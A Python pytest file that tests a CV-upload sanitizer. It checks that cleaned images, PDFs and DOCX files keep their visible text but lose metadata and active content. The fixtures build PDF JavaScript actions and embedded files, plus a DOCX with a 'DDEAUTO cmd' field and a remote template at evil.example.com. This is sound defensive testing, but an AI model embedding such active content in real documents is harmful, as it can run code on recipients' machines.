"""Copies that are handed out: what is seen stays, what is said beside it is gone."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from jobhire.domains.intake.domain.document import HiddenBy
from jobhire.domains.intake.domain.refusal import Reason, Refused
from jobhire.domains.intake.infrastructure.jail import JailedReader
from jobhire.domains.intake.infrastructure.pictures import bare
from jobhire.domains.intake.infrastructure.wire import most_copied
from tests.integration.intake.files import docx, double_flate, packed, paragraph, pdf, stream, text
from tests.integration.intake.test_visible_text import (
    FAINT,
    FORM,
    HIDDEN_IN_DOCX,
    HIDDEN_IN_PDF,
    SEEN_IN_DOCX,
    SEEN_IN_PDF,
)

DATA = Path(__file__).parents[4] / "shared/data"
SECRET = b"Ada was here"
HONEST = text(50, 780, "Ada Lovelace", size=18) + text(50, 750, "Analytical engines and their programs")


def photo(kind: str = "JPEG") -> bytes:
    """With the place it was taken at, a comment, and a trailer as phones write it."""
    picture = Image.new("RGB", (32, 24))
    picture.putdata([(x * 8 % 256, y * 10 % 256, x * y % 256) for y in range(24) for x in range(32)])
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 26.0)}
    buffer = io.BytesIO()
    picture.save(buffer, kind, exif=exif, **({"comment": SECRET} if kind == "JPEG" else {}))
    return buffer.getvalue()


def pixels(picture: bytes) -> bytes:
    return Image.open(io.BytesIO(picture)).convert("RGB").tobytes()


def image(data: bytes, filters: str) -> bytes:
    return stream(
        data,
        f"/Type /XObject /Subtype /Image /Width 32 /Height 24 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
        f"/Filter {filters}",
    )


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_picture_keeps_its_pixels_and_loses_what_is_written_beside_them(kind: str) -> None:
    original = photo(kind)
    copy = bare(original + (b"MotionPhoto" + SECRET if kind == "JPEG" else b""))
    assert SECRET in original and SECRET not in copy and b"Exif" not in copy
    assert pixels(copy) == pixels(original)
    assert dict(Image.open(io.BytesIO(copy)).getexif()) == {}


def test_a_progressive_picture_keeps_all_its_scans() -> None:
    buffer = io.BytesIO()
    Image.effect_noise((64, 64), 60).save(buffer, "JPEG", progressive=True)
    assert pixels(bare(buffer.getvalue())) == pixels(buffer.getvalue())


def test_a_jpeg_2000_loses_its_boxes_of_text() -> None:
    boxes = struct.pack(">I4s", 20, b"uuid") + SECRET + struct.pack(">I4s", 0, b"jp2c") + b"codestream"
    signature = b"\0\0\0\x0cjP  \r\n\x87\n"
    assert bare(signature + boxes) == signature + struct.pack(">I4s", 0, b"jp2c") + b"codestream"


@given(
    st.binary(max_size=400), st.sampled_from([b"\xff\xd8", b"\x89PNG\r\n\x1a\n", b"\0\0\0\x0cjP  \r\n\x87\n"])
)
def test_whatever_follows_the_mark_of_a_picture_the_copy_ends_and_is_not_longer(
    rest: bytes, mark: bytes
) -> None:
    assert len(bare(mark + rest)) <= len(mark + rest) + 2


def test_row_57_a_clean_pdf_has_no_metadata_no_script_no_attachment_and_no_place_of_a_photo(
    jail: JailedReader,
) -> None:
    script = b"<< /S /JavaScript /JS (app.alert\\('" + SECRET + b"'\\)) >>"
    plain = image(photo(), "/DCTDecode")
    twice = image(zlib.compress(photo()), "[/FlateDecode /DCTDecode]")
    attached = stream(SECRET, "/Type /EmbeddedFile")
    note = (
        b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /T (" + SECRET + b") /Contents (" + SECRET + b") >>"
    )
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [50 740 200 760] /NM (" + SECRET + b") "
        b"/A << /S /URI /URI (https://example.com/ada) /Next " + script + b" >> >>"
    )
    run = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + script + b" /AA << /U " + script + b" >> >>"
    content = pdf(
        HONEST + "q 60 0 0 60 400 700 cm /Im Do Q q 60 0 0 60 400 600 cm /Im2 Do Q",
        extra=[plain, twice, attached, note, link, run, stream(SECRET, "/Type /Metadata /Subtype /XML")],
        page="/XObject << /Im 10 0 R /Im2 11 0 R >>",
        info=f"/Author ({SECRET.decode()})",
    )
    content = content.replace(
        b"/Type /Catalog",
        b"/Type /Catalog /Metadata 16 0 R /OpenAction " + script + b" /AA << /WC " + script + b" >> "
        b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 12 0 R >> >>] >> "
        b"/JavaScript << /Names [(b) " + script + b"] >> >>",
    ).replace(b"/Type /Page ", b"/Type /Page /Annots [13 0 R 14 0 R 15 0 R] /AA << /O " + script + b" >> ")
    copy = jail.clean(content, "cv.pdf")
    assert len(copy) <= most_copied(len(content))
    with pikepdf.open(io.BytesIO(copy)) as opened:
        assert set(opened.Root.keys()) == {"/Type", "/Pages"}
        assert "/Info" not in opened.trailer
        page = opened.pages[0]
        assert [str(each.Subtype) for each in page.Annots] == ["/Link", "/Link"]
        assert next(dict(each.get("/A", {})) for each in page.Annots)["/URI"] == "https://example.com/ada"
        assert set(page.Annots[1].keys()) == {"/Type", "/Subtype", "/Rect"}
        pictures = [bytes(each.read_raw_bytes()) for each in page.Resources.XObject.values()]
        assert [pixels(each) for each in pictures] == [pixels(photo())] * 2
        everything = b"".join(
            thing.unparse() + (thing.read_raw_bytes() if isinstance(thing, pikepdf.Stream) else b"")
            for thing in opened.objects
        )
    for left in (SECRET, b"/JS", b"JavaScript", b"Exif", b"/EF", b"/AA"):
        assert left not in everything
    assert jail.read(copy, "cv.pdf").text == jail.read(content, "cv.pdf").text


@pytest.mark.parametrize("case", [*HIDDEN_IN_PDF, *SEEN_IN_PDF])
def test_a_copy_of_a_pdf_shows_and_hides_what_the_original_did(jail: JailedReader, case: str) -> None:
    page = "/XObject << /Form 10 0 R >> /ExtGState << /Faint 11 0 R /Half 12 0 R >>"
    half = b"<< /Type /ExtGState /ca 0.5 >>"
    body = HIDDEN_IN_PDF[case][0] if case in HIDDEN_IN_PDF else SEEN_IN_PDF[case]
    content = pdf(HONEST + body, extra=[FORM, FAINT, half], page=page)
    assert jail.read(jail.clean(content, "cv.pdf"), "cv.pdf") == jail.read(content, "cv.pdf")


@pytest.mark.parametrize("case", [*HIDDEN_IN_DOCX, *SEEN_IN_DOCX])
def test_a_copy_of_a_docx_shows_what_the_original_did(jail: JailedReader, case: str) -> None:
    body = HIDDEN_IN_DOCX[case][0] if case in HIDDEN_IN_DOCX else SEEN_IN_DOCX[case]
    content = docx(paragraph("Ada Lovelace") + body)
    copied, original = (jail.read(each, "cv.docx") for each in (jail.clean(content, "cv.docx"), content))
    assert copied.lines == original.lines
    left = [one for one in original.hidden if one.reason is not HiddenBy.DELETED]
    assert list(copied.hidden) == left, "who deleted what is nobody's business"


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def a_talkative_docx() -> bytes:
    who = f'w:author="{SECRET.decode()}" w:date="2024-01-01T00:00:00Z"'
    body = (
        f'<w:p w:rsidR="00AB12CD"><w:ins w:id="1" {who}><w:r><w:t>Ada </w:t></w:r></w:ins>'
        f"<w:moveTo {who}><w:r><w:t>Lovelace</w:t></w:r></w:moveTo>"
        f"<w:del {who}><w:r><w:delText>{SECRET.decode()}</w:delText></w:r></w:del>"
        f'<w:commentRangeStart w:id="0"/><w:r><w:rPr><w:rPrChange {who}/></w:rPr>'
        '<w:commentReference w:id="0"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Analyst</w:t></w:r></w:p>'
        f'<w:p><w:hyperlink r:id="r1" xmlns:r="{RELATIONS}">'
        "<w:r><w:t>ada.example.com</w:t></w:r></w:hyperlink>"
        f'<w:hyperlink r:id="r2" xmlns:r="{RELATIONS}"><w:r><w:t> and a file</w:t></w:r></w:hyperlink></w:p>'
    )
    relation = '<Relationship Id="{}" Type="x/{}" Target="{}" {}/>'
    external = 'TargetMode="External"'
    relations = "".join([
        relation.format("r1", "hyperlink", "https://ada.example.com", external),
        relation.format("r2", "hyperlink", "file:///c:/" + SECRET.decode(), external),
        relation.format("r3", "attachedTemplate", "http://evil.example.com/t.dotm", external),
        relation.format("r4", "image", "media/photo.jpg", ""),
        relation.format("r5", "comments", "comments.xml", ""),
    ])  # fmt: skip
    core = f"<cp:coreProperties xmlns:cp='x'><cp:creator>{SECRET.decode()}</cp:creator></cp:coreProperties>"
    ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return docx(body, parts={
        "docProps/core.xml": core,
        "docProps/thumbnail.jpeg": photo(),
        "word/comments.xml": f"<w:comments {ns}><w:comment {who}/></w:comments>",
        "word/people.xml": f"<people>{SECRET.decode()}</people>",
        "word/settings.xml": f'<w:settings {ns}><w:rsids><w:rsid w:val="00AB12CD"/></w:rsids>'
                             '<w:defaultTabStop w:val="720"/></w:settings>',
        "word/_rels/document.xml.rels": f"<Relationships>{relations}</Relationships>",
        "word/media/photo.jpg": photo(),
        "customXml/item1.xml": f"<a>{SECRET.decode()}</a>",
    })  # fmt: skip


def test_a_clean_docx_has_no_authors_comments_traces_of_editing_or_outside_relations(
    jail: JailedReader,
) -> None:
    content = a_talkative_docx()
    copy = jail.clean(content, "cv.docx")
    assert jail.read(copy, "cv.docx").text == jail.read(content, "cv.docx").text
    assert jail.read(copy, "cv.docx").text == "Ada Lovelace\nAnalyst\nada.example.com and a file"
    assert jail.read(copy, "cv.docx").hidden == ()
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert set(members) == {
        "[Content_Types].xml",
        "word/document.xml",
        "word/settings.xml",
        "word/_rels/document.xml.rels",
        "word/media/photo.jpg",
    }
    everything = b"".join(members.values())
    for left in (SECRET, b"rsid", b"author", b"DDE", b"evil.example.com", b"Exif", b"comment"):
        assert left not in everything, left
    assert b"https://ada.example.com" in members["word/_rels/document.xml.rels"]
    assert pixels(members["word/media/photo.jpg"]) == pixels(photo())


def test_plain_text_is_its_own_copy(jail: JailedReader) -> None:
    assert jail.clean("Ada Lovelace, Zoë".encode(), "cv.txt") == "Ada Lovelace, Zoë".encode()


def test_a_file_that_cannot_be_copied_is_refused_and_the_next_one_is_copied(jail: JailedReader) -> None:
    for content, name in (
        (double_flate(400_000_000), "cv.pdf"),
        (b"%PDF-1.7\nnothing", "cv.pdf"),
        (packed({"word/document.xml": "<!DOCTYPE a><a/>"}), "cv.docx"),
    ):
        with pytest.raises(Refused) as refused:
            jail.clean(content, name)
        assert refused.value.reason in {Reason.DAMAGED, Reason.UNSAFE_ARCHIVE, Reason.TOO_COMPLEX}
        assert jail.clean(pdf(HONEST), "cv.pdf").startswith(b"%PDF-")


@pytest.mark.skipif(not DATA.exists(), reason="shared/data is missing")
def test_the_copies_of_collected_cvs_read_as_their_originals(jail: JailedReader) -> None:
    files = [each for each in sorted(DATA.glob("cv-*/**/*")) if each.suffix in {".pdf", ".docx"}]
    assert files
    for file in files:
        content = file.read_bytes()
        copy = jail.clean(content, file.name)
        assert len(copy) <= most_copied(len(content))
        try:
            original = jail.read(content, file.name)
        except Refused as refused:
            with pytest.raises(Refused, match=str(refused)[:20]):
                jail.read(copy, file.name)
        else:
            assert jail.read(copy, file.name).lines == original.lines, file.name
